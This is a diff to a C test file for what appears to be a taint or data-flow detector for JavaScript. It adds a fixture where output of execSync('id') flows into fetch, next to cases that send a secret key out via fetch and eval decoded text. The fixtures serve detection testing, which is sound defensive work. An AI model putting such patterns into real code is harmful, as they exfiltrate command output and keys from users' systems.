@@ -215,6 +215,7 @@ static void test_flows(void **state)
 		{"const toHex = (x) => 1; function toBase58(b) { return b[0] % 58 } function send(k) { fetch(u, {body: toBase58(k)}) } "
 		 "function f(secretKey) { send(secretKey) } f(x)",
 		 "fetch", JS_FROM_KEYS},
+		{"const m = /^((?:a|b|c)+)/.exec(require('child_process').execSync('id')); fetch(u + m[1])", "fetch", JS_FROM_COMMAND},
 		{"const m = /a(.b)/.exec(require('child_process').execSync('id')); fetch(u, {body: m[1]})", "fetch", JS_FROM_COMMAND},
 		/* put into an object behind where it is read, and kept when only a branch replaces it */
 		{"const o = {}; function run() { eval(o.text) } function got(d) { o.text = atob(d) } got(x); run()", "eval", JS_FROM_DECODED},
